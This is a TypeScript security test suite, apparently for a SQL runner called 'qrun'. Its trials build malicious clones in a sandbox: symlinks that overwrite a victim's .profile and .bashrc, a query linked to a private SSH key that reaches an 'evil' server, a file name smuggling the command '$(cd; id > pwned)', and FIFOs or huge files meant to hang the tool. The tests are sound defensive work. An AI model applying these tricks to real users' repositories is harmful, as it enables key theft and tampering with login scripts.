import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, readdirSync, statSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { ATTACKER, type Trial, VICTIM, verdict, type World, why } from './world.js';

const NAME = 'sql/$(cd; id > pwned).sql';

// What stands in the files of the victim's home afterwards.
function homeChanged(world: World): string[] {
  const before: Readonly<Record<string, string>> = {
    '.profile': 'PROFILE\n',
    '.bashrc': 'BASHRC\n',
    '.bash_login': '',
  };
  return Object.keys(before).filter(name => world.read(`home/${name}`) !== before[name]);
}

function fillHome(world: World, owner = 0): void {
  world.put('home/.profile', 'PROFILE\n', 0o644, owner);
  world.put('home/.bashrc', 'BASHRC\n', 0o644, owner);
}

// Names with modes that let other users write; `.qrun` may not be looked into at all.
function openToOthers(path: string, mask: number): string[] {
  return readdirSync(path, { withFileTypes: true }).flatMap(entry => {
    const at = join(path, entry.name);
    if (entry.isSymbolicLink()) return [];
    const bad = (statSync(at).mode & mask) === 0 ? [] : [at];
    return entry.isDirectory() ? [...bad, ...openToOthers(at, mask)] : bad;
  });
}

/** Files of a tree and of other users: links, owners, modes, sizes. */
export const FILES: readonly Trial[] = [
  {
    name: 'links in the results of a clone empty, extend and make files of the victim',
    run: async world => {
      fillHome(world);
      const server = await world.evil(undefined, true);
      const links = {
        'results/sql.ndjson.lease': '../../home/.profile',
        'results/sql.ndjson.runs': '../../home/.bashrc',
        'results/sql.ndjson': '../../home/.bash_login',
      };
      const cwd = world.clone('clone', { [NAME]: 'SELECT 1 AS a' }, links);
      const ended = await world.qrun(['unit', 'sql', '--url', server.url], { cwd });
      const changed = homeChanged(world);
      return verdict(changed.length > 0, changed.length > 0 ? `changed: ${changed.join(', ')}` : why(ended));
    },
  },
  ...['lease', 'runs', 'lock', 'inflight', 'log'].map(
    (kind): Trial => ({
      name: `a link in the results of a clone leads the ${kind} of a unit to a file of the victim`,
      run: async world => {
        fillHome(world);
        const server = await world.evil(undefined, true);
        const name = kind === 'log' ? 'results/sql.ndjson' : `results/sql.ndjson.${kind}`;
        const cwd = world.clone('clone', { [NAME]: 'SELECT 1 AS a' }, { [name]: '../../home/.bash_login' });
        const engine = kind === 'inflight' ? [] : ['--url', server.url];
        const ended = await world.qrun(['unit', 'sql', ...engine], { cwd });
        const changed = homeChanged(world);
        return verdict(
          changed.length > 0,
          changed.length > 0 ? `changed: ${changed.join(', ')}` : why(ended),
        );
      },
    }),
  ),
  {
    name: 'the results directory of another user, with links in it, changes files of the victim',
    run: async world => {
      world.give('home', VICTIM);
      fillHome(world, VICTIM);
      const server = await world.evil(undefined, true);
      world.directory('shared', 0o1777);
      world.put('shared/sql2/q.sql', 'SELECT 1 AS a');
      world.give('shared/sql2', VICTIM);
      world.link('shared/results/sql2.ndjson.lease', join(world.home, '.profile'));
      world.link('shared/results/sql2.ndjson.runs', join(world.home, '.bashrc'));
      world.put('shared/results/sql2.ndjson', '', 0o666);
      world.put('shared/results/sql2.ndjson.lock', '', 0o666);
      world.give('shared/results', ATTACKER);
      const ended = await world.qrun(['unit', join(world.root, 'shared/sql2'), '--url', server.url], {
        user: VICTIM,
      });
      const changed = homeChanged(world);
      const believed = world.read('shared/results/sql2.ndjson') !== '';
      return verdict(
        changed.length > 0 || believed,
        `${changed.join(', ')}${believed ? ' written into his log' : ''} ${why(ended)}`,
      );
    },
  },
  {
    name: 'another user who may read a lease or lock holds it, and no run can start',
    run: async world => {
      world.put('sql/q.sql', 'SELECT 1 AS a');
      world.give('sql', VICTIM);
      world.directory('results', 0o755, VICTIM);
      const server = await world.evil(undefined, true);
      await world.qrun(['unit', 'sql', '--url', server.url], { user: VICTIM });
      const files = readdirSync(join(world.root, 'results')).filter(name => /\.(lease|lock)$/.test(name));
      const held = files.filter(name => {
        const words = [`--reuid=${ATTACKER}`, `--regid=${ATTACKER}`, '--clear-groups', '--'];
        const path = join(world.root, 'results', name);
        return spawnSync('setpriv', [...words, 'flock', '-n', path, 'true']).status === 0;
      });
      if (files.length < 2) return { state: 'left out', saw: 'no lease and lock were made' };
      return verdict(held.length > 0, held.length > 0 ? `held: ${held.join(', ')}` : 'permission denied');
    },
  },
  {
    name: 'with umask 000 other users may write to what qrun makes, with 022 they see into .qrun',
    run: async world => {
      world.put('sql/q.sql', 'SELECT 1 AS a');
      world.put('sql/_setup.sql', 'CREATE TABLE t (a UInt8) ENGINE = MergeTree ORDER BY a');
      await world.qrun(['unit', 'sql', '--events', 'events'], { umask: '000' });
      const writable = openToOthers(world.root, 0o002).filter(path => !/\/tmp-\d/.test(path));
      const readable = (statSync(join(world.root, '.qrun')).mode & 0o077) !== 0;
      const shown = writable
        .slice(0, 3)
        .map(path => path.slice(world.root.length + 1))
        .join(', ');
      return verdict(
        writable.length > 0 || readable,
        readable
          ? '.qrun can be looked into'
          : shown === ''
            ? 'nothing'
            : `others may write to ${writable.length}: ${shown}`,
      );
    },
  },
  {
    name: 'a link among the queries of a clone sends a private key to the server',
    run: async world => {
      const evil = await world.evil(undefined, true);
      world.put('home/.ssh/id_ed25519', '-----BEGIN KEY-----\nKEYKEYKEY\n-----END KEY-----\n', 0o600);
      const cwd = world.clone(
        'clone',
        { 'sql/q.sql': 'SELECT 1 AS a' },
        { 'sql/k.sql': '../../home/.ssh/id_ed25519' },
      );
      const ended = await world.qrun(['unit', 'sql', '--url', evil.url], { cwd });
      return verdict(evil.told().includes('KEYKEYKEY'), why(ended));
    },
  },
  {
    name: 'a query that is a link to /dev/zero takes all memory',
    run: async world => {
      const cwd = world.clone('clone', { 'sql/q.sql': 'SELECT 1 AS a' }, { 'sql/z.sql': '/dev/zero' });
      const ended = await world.qrun(['plan', 'sql'], { cwd, limitMs: 15_000 });
      return verdict(ended.hung || ended.peakMb > 500, `${Math.round(ended.peakMb)} MB, ${why(ended)}`);
    },
  },
  ...[
    'sql/p.sql',
    '.env',
    'qrun.toml',
    'results/sql.ndjson',
    'results/sql.ndjson.runs',
    'sql/_setup.sql',
  ].map(
    (name): Trial => ({
      name: `a FIFO in place of ${name} stops qrun, deaf to signals`,
      run: async world => {
        world.put('sql/q.sql', 'SELECT 1 AS a');
        world.directory('results');
        execFileSync('mkfifo', [join(world.root, name)]);
        const ended = await world.qrun(['plan', 'sql'], { limitMs: 15_000 });
        return verdict(ended.hung, why(ended));
      },
    }),
  ),
  {
    name: 'a query file of 600 MB is called a bug of qrun',
    run: async world => {
      writeFileSync(world.put('sql/z.sql', ''), 'SELECT 1');
      truncateSync(join(world.root, 'sql/z.sql'), 600 * 1024 * 1024);
      const ended = await world.qrun(['plan', 'sql']);
      return verdict(
        ended.hung || ended.code === 1 || ended.signal !== null || ended.peakMb > 500,
        `${Math.round(ended.peakMb)} MB, ${why(ended)}`,
      );
    },
  },
  {
    name: 'a query file with fifty million statements ends qrun with an abort',
    run: async world => {
      world.put('sql/z.sql', 'a;'.repeat(50_000_000));
      const ended = await world.qrun(['plan', 'sql']);
      return verdict(
        ended.hung || ended.code === 1 || ended.signal !== null,
        `${Math.round(ended.peakMb)} MB, ${why(ended)}`,
      );
    },
  },
  {
    name: 'a query file of 60 MB with thirty million statements ends qrun with an abort',
    run: async world => {
      world.put('sql/z.sql', 'a;'.repeat(30_000_000));
      const ended = await world.qrun(['plan', 'sql'], { limitMs: 60_000 });
      return verdict(
        ended.hung || ended.code === 1 || ended.signal !== null || ended.code === 134,
        `${Math.round(ended.peakMb)} MB, ${why(ended)}`,
      );
    },
  },
  {
    name: 'a data directory that is none loses files in its tmp',
    run: async world => {
      world.put('sql/q.sql', 'SELECT 1 AS a');
      for (const name of ['data/tmp/tmp_mine', 'data/tmp/tmp2', 'data/notes.txt']) world.put(name, 'x');
      const ended = await world.qrun(['unit', 'sql', '--data-dir', 'data']);
      const lost = ['tmp_mine', 'tmp2'].filter(name => !existsSync(join(world.root, 'data/tmp', name)));
      const made = ['store', 'metadata'].filter(name => existsSync(join(world.root, 'data', name)));
      return verdict(
        lost.length + made.length > 0,
        lost.length > 0 ? `lost: ${lost.join(', ')}` : why(ended),
      );
    },
  },
];
